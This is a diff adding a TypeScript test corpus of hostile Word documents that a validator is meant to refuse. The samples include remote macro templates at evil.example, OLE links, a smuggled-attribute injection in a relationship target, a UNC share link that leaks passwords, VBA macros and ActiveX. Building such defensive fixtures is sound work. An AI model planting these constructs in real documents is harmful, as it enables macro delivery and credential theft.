@@ -1,0 +1,114 @@
+import { text } from '../sample-files.ts';
+import { corpusFile, refused } from './corpus-file.ts';
+import { makeDocx } from './make-docx.ts';
+
+const STYLES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles';
+
+/** Word documents that refer to what is elsewhere, or is no part of a text. */
+export const docxThatRefer = [
+  refused(
+    'remote-template.docx',
+    'A template on a server (attachedTemplate), which brings its macros',
+    'Templates are no known relationship',
+    () =>
+      makeDocx({
+        settings: [['rId1', 'attachedTemplate', 'https://evil.example/a.dotm', 'External']],
+      }),
+  ),
+  refused(
+    'linked-object.docx',
+    'An object of another program on a server (OLE link)',
+    'Objects are no known relationship',
+    () =>
+      makeDocx({
+        body: '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>',
+        relations: [['rId3', 'oleObject', 'https://evil.example/a.html!', 'External']],
+      }),
+  ),
+  refused('embedded-object.docx', 'An object of another program', 'Objects are no known part', () =>
+    makeDocx({
+      relations: [['rId3', 'oleObject', 'embeddings/oleObject1.bin']],
+      parts: { 'word/embeddings/oleObject1.bin': text('\xd0\xcf\x11\xe0') },
+    }),
+  ),
+  refused(
+    'template-behind-styles.docx',
+    'A template on a server, behind foreign attributes that tell of styles',
+    'Attributes of another vocabulary do not count',
+    () =>
+      makeDocx({
+        settings: [
+          // The foreign attributes come last: who goes by names alone keeps these.
+          [
+            'rId1',
+            'attachedTemplate',
+            `https://evil.example/a.dotm" TargetMode="External" xmlns:x="urn:x" x:Type="${STYLES}" x:Target="styles.xml" x:TargetMode="Internal`,
+          ],
+        ],
+      }),
+  ),
+  refused('linked-picture.docx', 'A picture on a server', 'Pictures have to be inside', () =>
+    makeDocx({ relations: [['rId3', 'image', 'https://evil.example/a.png', 'External']] }),
+  ),
+  refused(
+    'linked-drawing.docx',
+    'A picture on a server, named by an old drawing itself',
+    'Pictures have to be inside',
+    () =>
+      makeDocx({
+        body: '<w:p><w:r><w:pict><v:shape><v:imagedata src="file://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
+      }),
+  ),
+  refused(
+    'share-link.docx',
+    'A link to a folder of a server, which sends the reader’s password there',
+    'Only web, mail and telephone',
+    () =>
+      makeDocx({ relations: [['rId3', 'hyperlink', 'file:///\\\\evil.example\\cv', 'External']] }),
+  ),
+  refused(
+    'unknown-reference.docx',
+    'A relationship of an unknown vocabulary, by the name of a known one',
+    'Only known relationships',
+    () =>
+      makeDocx({
+        relations: [['rId3', 'https://visitor.example/relationships/styles', 'styles.xml']],
+      }),
+  ),
+  refused(
+    'foreign-text.docx',
+    'A page of the web to be read in (altChunk)',
+    'Foreign text is refused',
+    () =>
+      makeDocx({
+        body: '<w:altChunk r:id="rId3"/>',
+        relations: [['rId3', 'aFChunk', 'a.xml']],
+        parts: { 'word/a.xml': '<html/>' },
+      }),
+  ),
+  corpusFile(
+    'macros.docx',
+    'fileTypeRefused',
+    'Macros under the name of a document without',
+    'It declares itself a document with macros, which is no kind that is taken',
+    () =>
+      makeDocx({
+        main: 'application/vnd.ms-word.document.macroEnabled.main+xml',
+        relations: [
+          [
+            'rId3',
+            'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
+            'vbaProject.bin',
+          ],
+        ],
+        parts: { 'word/vbaProject.bin': text('\xd0\xcf\x11\xe0') },
+      }),
+  ),
+  refused('activex.docx', 'An ActiveX control', 'Controls are no known relationship', () =>
+    makeDocx({
+      body: '<w:p><w:r><w:control r:id="rId3"/></w:r></w:p>',
+      relations: [['rId3', 'control', 'activeX/activeX1.xml']],
+      parts: { 'word/activeX/activeX1.xml': '<ax/>' },
+    }),
+  ),
+];
